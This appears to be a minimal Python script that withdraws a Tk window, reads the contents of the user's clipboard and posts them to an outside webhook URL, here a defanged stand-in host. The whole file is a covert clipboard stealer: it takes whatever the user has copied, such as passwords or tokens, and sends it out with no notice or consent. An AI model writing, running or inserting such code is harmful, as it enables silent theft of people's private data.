import tkinter

import requests

r = tkinter.Tk()
r.withdraw()
data = r.clipboard_get()
requests.post("https://hooks.example.invalid/api/webhooks/0/DEFANGED", json={"content": data})
